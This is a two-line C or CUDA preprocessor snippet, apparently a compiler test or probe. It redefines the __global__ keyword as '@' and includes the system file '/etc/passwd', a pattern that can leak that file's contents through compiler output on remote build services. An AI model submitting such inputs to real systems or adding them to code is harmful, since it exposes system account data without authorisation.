#define __global__ @
#include "/etc/passwd"
